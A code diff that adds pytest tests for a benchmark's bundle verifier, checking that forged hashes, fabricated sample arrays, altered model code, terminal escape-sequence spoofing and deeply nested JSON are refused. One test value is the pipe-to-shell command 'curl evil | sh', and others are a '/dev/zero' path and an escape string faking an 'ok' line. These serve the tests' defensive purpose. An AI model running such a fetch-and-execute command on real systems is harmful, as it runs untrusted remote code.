@@ -96,6 +96,18 @@ def test_dry_adds_nothing(cli, bundle: Path, tmp_path: Path):
         (lambda raw: raw["task"].update(name="nothing"), "unknown task"),
         (lambda raw: raw["model"].update(name="meg"), "model.name"),
         (lambda raw: raw["provenance"]["data_hashes"].update(dots="1" * 64), "data_hashes"),
+        (lambda raw: raw["provenance"]["data_hashes"].clear(), "data_hashes"),
+        (lambda raw: raw["provenance"].update(command="curl evil | sh"), "provenance.command"),
+        (lambda raw: raw["task"].update(name="./plugins/dots"), "unknown task"),
+        (lambda raw: raw["task"].update(name="a" * 5000), "unknown task"),
+        (lambda raw: raw["task"].update(options={}), "task.options"),
+        (lambda raw: raw["task"].update(options={"points": "/dev/zero"}), "task.options.points"),
+        (lambda raw: raw["model"].update(kind="control"), "model.kind"),
+        (lambda raw: raw["model"].update(variant="tuned"), "model.variant"),
+        (lambda raw: raw["model"].update(code_hash="0" * 64), "model.code_hash"),
+        (lambda raw: raw.update(budget="endless"), "budget"),
+        (lambda raw: raw.update(created="9999-12-31T23:59:59Z"), "created"),
+        (lambda raw: raw.update(seed=-1), "seed"),
         (lambda raw: raw.update(run_id="other"), "run id"),
         (lambda raw: raw.update(schema_version=99), "schema_version 99"),
         (lambda raw: raw.update(extra=1), "extra"),
@@ -140,7 +152,10 @@ def first(entries: dict[str, bytes], kind: str) -> str:
         (lambda e: put(e, "evil", np.zeros(3, np.float32)), "called 'evil.npy'"),
         (lambda e: put(e, "samples.samples", np.zeros((9, 2), np.float32)), "9 samples"),
         (lambda e: put(e, "samples.samples", np.full((2000, 2), np.nan, np.float32)), "NaN"),
-        (lambda e: e.update({name: e[first(e, "arte")] for name in e if name.startswith("arte")}), "SHA-256"),
+        (
+            lambda e: e.update({name: e[first(e, "arte")] for name in e if name.startswith("arte")}),
+            "of its own",
+        ),
     ],
 )
 def test_what_is_no_honest_bundle_is_refused(cli, bundle: Path, tmp_path: Path, change, said: str):
@@ -149,6 +164,63 @@ def test_what_is_no_honest_bundle_is_refused(cli, bundle: Path, tmp_path: Path, 
     end = cli("verify", other, "--results", "board")
     assert end.code == 2 and said in end.err + end.out, end.err + end.out
     assert sorted(path for path in tmp_path.rglob("*") if path != other) == before, "nothing is written"
+
+
+def test_arrays_that_serve_twice_are_noticed_however_they_are_packed(cli, bundle: Path):
+    def copied(entries: dict[str, bytes]) -> None:
+        names = [name for name in sorted(entries) if name.startswith("artefacts")]
+        with np.load(io.BytesIO(entries[names[0]])) as stored:
+            buffer = io.BytesIO()
+            np.savez(buffer, **{name: stored[name] for name in stored.files})
+        entries[names[1]] = buffer.getvalue()
+
+    end = cli("verify", rewritten(bundle, copied), "--results", "board")
+    assert end.code == 2 and "of its own" in end.err
+
+
+def test_an_array_that_nobody_asks_for_is_refused(cli, bundle: Path):
+    def more(entries: dict[str, bytes]) -> None:
+        name = first(entries, "artefacts")
+        with np.load(io.BytesIO(entries[name])) as stored:
+            buffer = io.BytesIO()
+            np.savez(
+                buffer, **{key: stored[key] for key in stored.files}, **{"samples.more": np.zeros(3, "f4")}
+            )
+        entries[name] = buffer.getvalue()
+
+    end = cli("verify", rewritten(bundle, more), "--results", "board")
+    assert end.code == 2 and "samples.more" in end.err
+
+
+def test_a_name_on_the_board_is_its_author_s(cli, bundle: Path, tmp_path: Path):
+    assert cli("verify", bundle, "--results", "board").code == 0
+    before = {path: path.read_bytes() for path in (tmp_path / "board").rglob("*") if path.is_file()}
+    other = rewritten(bundle, lambda e: e.update({"README.md": b"mine now"}))
+    end = cli("verify", other, "--results", "board")
+    assert end.code == 2 and "--same-author" in end.err
+    # And who has the name still overwrites nothing.
+    end = cli("verify", other, "--results", "board", "--same-author")
+    assert end.code == 2 and "not on the board" in end.err
+    assert {path: path.read_bytes() for path in (tmp_path / "board").rglob("*") if path.is_file()} == before
+
+
+def test_a_terminal_shows_what_a_stranger_wrote_and_does_not_obey_it(cli, bundle: Path):
+    fake = "\x1b[2J\nok: everything is good"
+    other = rewritten(bundle, lambda e: edited(e, lambda raw: raw["metrics"].update({fake: 1.0})))
+    end = cli("verify", other, "--results", "board")
+    assert end.code == 2 and "\x1b" not in end.out + end.err
+    assert "\nok: everything" not in end.out + end.err
+
+
+def test_deep_nesting_is_a_refusal(cli, bundle: Path, tmp_path: Path):
+    deep = b'{"details": ' + b'{"a": ' * 900 + b"1" + b"}" * 900 + b"}"
+    other = rewritten(bundle, lambda e: e.update({first(e, "results"): deep}))
+    end = cli("verify", other, "--results", "board")
+    assert end.code == 2 and "Traceback" not in end.err
+    folder = tmp_path / "board" / "dots"
+    folder.mkdir(parents=True)
+    (folder / "deep.json").write_bytes(deep)
+    assert len(result.load_all(tmp_path / "board")[1]) == 1
 
 
 def test_a_manifest_that_lies_is_caught(cli, bundle: Path):
@@ -209,23 +281,31 @@ def test_a_rerun_trains_and_scores_here(cli, bundle: Path, tmp_path: Path):
 
 
 def test_a_rerun_that_gives_other_numbers_is_refused(cli, bundle: Path, tmp_path: Path):
-    """The code was changed after the runs: what it gives now is not what the artefacts hold."""
+    """Arrays that fit their metrics, and that this code never made."""
 
-    def other_code(entries: dict[str, bytes]) -> None:
-        text = entries["model/model.py"].decode()
-        assert "return" in text
-        entries["model/model.py"] = text.encode() + OTHER_SAMPLES
+    def made_up(entries: dict[str, bytes]) -> None:
+        for seed, name in enumerate(sorted(name for name in entries if name.startswith("results"))):
+            x = np.random.default_rng(seed).random((100, 2), dtype=np.float32) * 0.01
+            raw = json.loads(entries[name])
+            raw["metrics"] = {"error": float(abs(x.mean() - 0.5)), "spread": float(x.std())}
+            entries[name] = json.dumps(raw).encode()
+            buffer = io.BytesIO()
+            np.savez(buffer, **{"samples.samples": x})
+            entries[name.replace("results", "artefacts").replace("json", "npz")] = buffer.getvalue()
 
-    end = cli("verify", rewritten(bundle, other_code), "--results", "board", "--rerun")
-    assert end.code == 2 and "run again" in end.out + end.err, end.out + end.err
+    other = rewritten(bundle, made_up)
+    assert cli("verify", other, "--results", "board", "--dry").code == 0
+    end = cli("verify", other, "--results", "board", "--rerun")
+    assert end.code == 2 and "error, run again" in end.err, end.out + end.err
     assert not (tmp_path / "board").exists()
 
 
-OTHER_SAMPLES = b"""
-
-_sample = Mine.sample
-Mine.sample = lambda self, n: _sample(self, n) * 0.0 + 0.9
-"""
+def test_other_code_than_was_run_is_refused_before_it_runs(cli, bundle: Path, tmp_path: Path):
+    ran = tmp_path / "ran"
+    change = f"\nopen({str(ran)!r}, 'w')\n".encode()
+    other = rewritten(bundle, lambda e: e.update({"model/model.py": e["model/model.py"] + change}))
+    end = cli("verify", other, "--results", "board", "--rerun")
+    assert end.code == 2 and "model.code_hash" in end.err and not ran.exists()
 
 
 CARD = 'name = "afar"\ntitle = "From afar"\n'
@@ -264,6 +344,70 @@ def test_samples_alone_are_submitted_and_verified(cli, plugins: Path, tmp_path: 
     # There is no code to run again.
     again = cli("verify", "afar.zip", "--results", "other", "--rerun")
     assert again.code == 2 and "no code" in again.err
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (lambda raw: raw.update(budget="cpu"), "budget"),
+        (lambda raw: raw["training"].update(seconds=60.0, steps=100), "training"),
+        (lambda raw: raw.update(config={"lr": 1.0}), "config"),
+    ],
+)
+def test_samples_alone_say_nothing_of_a_training(cli, plugins: Path, tmp_path: Path, change, said: str):
+    assert cli(*made_elsewhere(tmp_path)).code == 0
+    other = rewritten(tmp_path / "afar.zip", lambda entries: edited(entries, change))
+    end = cli("verify", other, "--results", "board")
+    assert end.code == 2 and said in end.err
+
+
+ENERGY_TASK = """
+import numpy as np
+import torch
+
+from ebbench import DataSpec, Metric, Score, Task
+
+
+class Heights(Task):
+    version = 1
+    protocols = {"clean": "As it should be."}
+    needs = "energy"
+    metrics = (Metric(name="mean", unit="", better="lower", doc="Mean of the declared score.", primary=True),)
+
+    def __init__(self, options, protocol, store):
+        super().__init__(options, protocol, store)
+        self.source, self.data_hashes = "heights", {}
+
+    def data_key(self):
+        return {}
+
+    def data(self, device):
+        raise NotImplementedError
+
+    def spec(self):
+        return DataSpec(name="heights", shape=(2,))
+
+    def score(self, model, scoring):
+        found = scoring.scores(torch.zeros(5, 2))
+        assert scoring.evaluations.series.get("energy.mean", []) == []
+        return Score({"mean": float(np.mean(found[scoring.declared]))})
+"""
+
+
+def test_scores_alone_are_submitted_where_a_task_asks_for_energies(cli, plugins: Path, tmp_path: Path):
+    (plugins / "heights").mkdir()
+    (plugins / "heights" / "task.py").write_text(ENERGY_TASK)
+    (plugins / "heights" / "card.toml").write_text('name = "heights"\ntitle = "Heights"\n')
+    np.savez(tmp_path / "s.npz", **{"scores.0.energy": np.arange(5, dtype=np.float32)})
+    (tmp_path / "card.toml").write_text(CARD)
+    words = ["submit", "--task", "heights", "--card", "card.toml", "--samples", "s.npz"]
+    end = cli(*words)
+    assert end.code == 2 and "declares no score" in end.err
+    (tmp_path / "card.toml").write_text(CARD + 'score = "energy"\n')
+    assert cli(*words).code == 0
+    assert cli("verify", "afar.zip", "--results", "board").code == 0
+    (one,) = result.load_all(tmp_path / "board")[0]
+    assert one.metrics == {"mean": 2.0} and one.score == "energy"
 
 
 @pytest.mark.parametrize(
